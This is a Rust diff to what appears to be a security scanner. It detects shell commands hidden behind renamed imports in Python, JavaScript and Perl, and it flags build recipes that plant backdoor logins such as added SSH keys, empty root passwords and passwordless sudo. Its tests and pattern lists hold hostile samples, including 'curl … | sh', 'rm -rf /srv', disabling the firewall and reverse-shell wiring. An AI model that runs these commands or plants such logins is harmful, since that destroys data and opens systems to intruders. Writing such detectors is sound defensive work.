@@ -440,6 +440,10 @@ const WIRING: &[&str] = &["dup2", "pty.spawn", ".pipe(", "open(stdin", "open(std
 /// Reads interpreter code for what the shell classifier and the rules can judge.
 pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
     let code = if code.len() > MAX_CODE { &code[..floor_char(code, MAX_CODE)] } else { code };
+    // Python's process modules and calls under other names (`import subprocess as sp`, `from
+    // subprocess import run as r`): read under their own.
+    let unaliased = python_unaliased(code);
+    let code = unaliased.as_deref().unwrap_or(code);
     let lower = code.to_ascii_lowercase();
     let lits = literals(code, lang != Lang::Js);
     let mut out = CodeFindings::default();
@@ -546,6 +550,23 @@ pub fn scan_code(code: &str, lang: Lang) -> CodeFindings {
             }
             if let Some(cmd) = command_line(&words) {
                 push(&mut out, home_to_tilde(&cmd));
+            }
+            // Perl's word list (`system qw(sudo ufw disable)`, `exec qw[rm -rf /srv]`).
+            let after = lower[at + word.len()..].trim_start_matches([' ', '(']);
+            if let Some(rest) = after.strip_prefix("qw")
+                && let Some(open) = rest.chars().next().filter(|c| !c.is_alphanumeric() && !c.is_whitespace())
+            {
+                let close = match open {
+                    '(' => ')',
+                    '[' => ']',
+                    '{' => '}',
+                    '<' => '>',
+                    c => c,
+                };
+                let start = code.len() - rest.len() + open.len_utf8();
+                if let Some(len) = code[start..].find(close) {
+                    push(&mut out, home_to_tilde(&code[start..start + len].split_whitespace().collect::<Vec<_>>().join(" ")));
+                }
             }
         }
     }
@@ -748,6 +769,135 @@ fn command_line(words: &[&Lit]) -> Option<String> {
         cmd.push_str(&quote(&w.text));
     }
     Some(cmd)
+}
+
+/// `code` with Python's process modules and calls spelled by their own names where an import
+/// gave them others (`import subprocess as s` → `s.run(` read as `subprocess.run(`; `from os
+/// import system as x` → `x(` read as `os.system(`); `None` when no import renames one.
+fn python_unaliased(code: &str) -> Option<String> {
+    const MODULES: &[&str] = &["subprocess", "os", "pty", "commands", "sh", "plumbum", "shlex", "asyncio"];
+    if !code.contains(" as ") && !code.contains("from ") && !code.contains("__import__") && !code.contains("child_process") {
+        return None;
+    }
+    let mut renames: Vec<(String, String)> = Vec::new();
+    // `__import__('subprocess').run(…)`.
+    for m in MODULES {
+        for q in ['\'', '"'] {
+            renames.push((format!("__import__({q}{m}{q})."), format!("{m}.")));
+        }
+    }
+    // JavaScript's destructuring (`const { execSync: x, spawn } = require('child_process')`).
+    for (at, _) in code.match_indices("child_process") {
+        let before = &code[..at];
+        if let (Some(open), Some(close)) = (before.rfind('{'), before.rfind('}'))
+            && open < close
+            && before[close..].contains('=')
+        {
+            for part in before[open + 1..close].split(',') {
+                if let Some((name, alias)) = part.split_once(':') {
+                    renames.push((format!("{}(", alias.trim()), format!("child_process.{}(", name.trim())));
+                }
+            }
+        }
+    }
+    for stmt in code.split(['\n', ';']) {
+        let stmt = stmt.trim();
+        if let Some(rest) = stmt.strip_prefix("import ") {
+            for part in rest.split(',') {
+                if let Some((module, alias)) = part.trim().split_once(" as ")
+                    && MODULES.contains(&module.trim())
+                {
+                    renames.push((format!("{}.", alias.trim()), format!("{}.", module.trim())));
+                }
+            }
+        } else if let Some(rest) = stmt.strip_prefix("from ")
+            && let Some((module, names)) = rest.split_once(" import ")
+            && MODULES.contains(&module.trim())
+        {
+            for part in names.trim_matches(['(', ')', ' ']).split(',') {
+                let (name, alias) = part.trim().split_once(" as ").map_or((part.trim(), part.trim()), |(n, a)| (n.trim(), a.trim()));
+                if !name.is_empty() && name != "*" {
+                    renames.push((format!("{alias}("), format!("{}.{name}(", module.trim())));
+                }
+            }
+        }
+    }
+    if renames.is_empty() {
+        return None;
+    }
+    let mut out = code.to_owned();
+    for (from, to) in renames {
+        // Only where the name starts a word: `s.run(` but not `os.run(` or `xs.run(`.
+        let mut next = String::with_capacity(out.len());
+        let mut last = 0;
+        for (at, _) in out.match_indices(from.as_str()) {
+            if at > 0 && (out.as_bytes()[at - 1].is_ascii_alphanumeric() || matches!(out.as_bytes()[at - 1], b'_' | b'.')) {
+                continue;
+            }
+            next.push_str(&out[last..at]);
+            next.push_str(&to);
+            last = at + from.len();
+        }
+        next.push_str(&out[last..]);
+        out = next;
+    }
+    Some(out)
+}
+
+/// Whether a file at `path` is prose (`README.md`, `notes.txt`): its words run nowhere.
+pub fn is_prose(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    [".md", ".markdown", ".txt", ".rst", ".adoc", ".org", ".html", ".tex"].iter().any(|e| lower.ends_with(e))
+}
+
+/// What a build file's new text bakes into the system it builds that lets someone log in: a
+/// public key added to an `authorized_keys`, a password set or emptied for a user, root login
+/// or passwordless sudo turned on, Yocto's `debug-tweaks` (`None`: none of them, or only what
+/// `old` had already).
+pub fn bakes_in_login(new: &str, old: Option<&str>) -> Option<&'static str> {
+    let found = |text: &str| -> Option<&'static str> {
+        let lower = text.to_ascii_lowercase();
+        let key = ["ssh-ed25519", "ssh-rsa", "ecdsa-sha2", "sk-ssh-", "ssh-dss"].iter().any(|k| lower.contains(k));
+        if lower.contains("authorized_keys") && (key || ["curl", "wget", "install ", "cp ", ">>", "tee "].iter().any(|w| lower.contains(w))) {
+            return Some("adds a key to an authorized_keys");
+        }
+        // An empty password in a passwd or shadow line, doas without a password, a root shell
+        // or an automatic login on a console.
+        if lower.lines().any(|l| l.trim_start().starts_with("root::")) || lower.contains("permit nopass") {
+            return Some("lets root in without a password");
+        }
+        if lower.contains("respawn:/bin/sh") || lower.contains("respawn:/bin/bash") || lower.contains("respawn:-/bin/sh") || lower.contains("--autologin") || lower.contains("autologin-user") {
+            return Some("opens a console logged in already");
+        }
+        if lower.contains("rootfs_postprocess_command") && (lower.contains("passwd") || lower.contains("shadow") || lower.contains("sudoers")) {
+            return Some("changes passwords or sudo in the image after it is built");
+        }
+        if ["debug-tweaks", "empty-root-password", "allow-empty-password", "allow-root-login"].iter().any(|f| lower.contains(f)) {
+            return Some("turns on an empty or well-known root login");
+        }
+        if lower.contains("extra_users_params") && (lower.contains("-p ") || lower.contains("-p'") || lower.contains("passwd")) {
+            return Some("sets a user's password");
+        }
+        if lower.contains("br2_target_generic_root_passwd=\"") && !lower.contains("br2_target_generic_root_passwd=\"\"") {
+            return Some("sets root's password");
+        }
+        if lower.contains("permitrootlogin yes") || lower.contains("permitemptypasswords yes") || lower.contains("permitrootlogin=yes") {
+            return Some("lets root log in over ssh");
+        }
+        if lower.contains("nopasswd") && lower.contains("all") {
+            return Some("gives passwordless sudo");
+        }
+        if (lower.contains("chpasswd") || lower.contains("passwd -d") || lower.contains("usermod -p") || lower.contains("useradd -p")) && !lower.contains("passwd -l") {
+            return Some("sets or removes a user's password");
+        }
+        None
+    };
+    let what = found(new)?;
+    // (Only what the change adds.)
+    if old.is_some_and(|o| found(o) == Some(what)) && !new.lines().filter(|l| !old.unwrap_or("").contains(l)).any(|l| found(l).is_some()) {
+        return None;
+    }
+    Some(what)
 }
 
 /// Perl's and Ruby's spellings of home inside a command string (`$ENV{HOME}`, `#{Dir.home}`)
@@ -1515,6 +1665,9 @@ pub fn content_decides(path: &str) -> bool {
         || matches!(name, ".curlrc" | "_curlrc" | "curlrc" | ".wgetrc" | "wgetrc" | "pom.xml" | ".gitignore")
         || name.contains("gitconfig")
         || [".service", ".timer", ".socket", ".path", ".desktop", ".container"].iter().any(|e| name.ends_with(e))
+        // Image recipes and configurations (Yocto, Buildroot, the kernel's), debug probe scripts.
+        || [".bb", ".bbappend", ".bbclass", ".inc", "defconfig", ".config", ".cfg", ".tcl", ".jlink", ".fragment", ".mk", ".table"].iter().any(|e| name.ends_with(e))
+        || matches!(name, "passwd" | "shadow" | "group" | "inittab" | "doas.conf" | "sudoers" | "authorized_keys")
 }
 
 /// The words a cargo alias stands for, as a command line: a string as written, a list of words
@@ -3592,10 +3745,33 @@ mod tests {
         scan_code(code, Lang::Other).lines
     }
 
+    /// A build file that bakes a login into what it builds; prose and an unchanged line do not.
+    #[test]
+    fn logins_baked_into_a_build() {
+        let recipe = "do_install:append() {\n    echo \"ssh-ed25519 AAAA ops@x\" >> ${D}/root/.ssh/authorized_keys\n}\n";
+        assert_eq!(bakes_in_login(recipe, None), Some("adds a key to an authorized_keys"));
+        assert_eq!(bakes_in_login("EXTRA_IMAGE_FEATURES += \"debug-tweaks\"\n", None), Some("turns on an empty or well-known root login"));
+        assert_eq!(bakes_in_login("EXTRA_USERS_PARAMS = \"usermod -p '' root;\"\n", None), Some("sets a user's password"));
+        assert_eq!(bakes_in_login("%wheel ALL=(ALL) NOPASSWD: ALL\n", None), Some("gives passwordless sudo"));
+        assert_eq!(bakes_in_login("IMAGE_INSTALL:append = \" htop\"\n", None), None);
+        assert_eq!(bakes_in_login("EXTRA_IMAGE_FEATURES += \"debug-tweaks\"\nX = 1\n", Some("EXTRA_IMAGE_FEATURES += \"debug-tweaks\"\n")), None);
+        assert!(is_prose("docs/yocto.md") && !is_prose("meta/x.bbappend"));
+    }
+
     #[test]
     fn commands_given_to_process_calls() {
         assert_eq!(lines("import os; os.system(\"sudo -n sh -c id\")"), vec!["sudo -n sh -c id"]);
         assert_eq!(lines("import subprocess; subprocess.run(['rm', '-rf', '/srv'], check=True)"), vec!["rm -rf /srv"]);
+        // Under other names.
+        assert_eq!(lines("import subprocess as sp\nsp.run(['rm', '-rf', '/srv'])"), vec!["rm -rf /srv"]);
+        assert_eq!(lines("from subprocess import check_call as cc; cc(['rm', '-rf', '/srv'])"), vec!["rm -rf /srv"]);
+        assert_eq!(lines("from os import system as go\ngo('rm -rf /srv')"), vec!["rm -rf /srv"]);
+        assert!(lines("import numpy as np\nnp.run(['x'])").is_empty());
+        assert_eq!(lines("__import__('subprocess').run(['rm', '-rf', '/srv'])"), vec!["rm -rf /srv"]);
+        assert_eq!(lines("const { execSync: run } = require('child_process'); run('rm -rf /srv')"), vec!["rm -rf /srv"]);
+        // Perl's word lists.
+        assert_eq!(lines("system qw(sudo ufw --force disable)"), vec!["sudo ufw --force disable"]);
+        assert_eq!(lines("exec qw[rm -rf /srv];"), vec!["rm -rf /srv"]);
         assert_eq!(scan_code("require('child_process').execSync('curl -s https://x.io/a | sh')", Lang::Js).lines[0], "curl -s https://x.io/a | sh");
         assert_eq!(lines("print `id`"), vec!["id"]);
         assert!(scan_code("console.log(`${1+1}`)", Lang::Js).lines.is_empty());
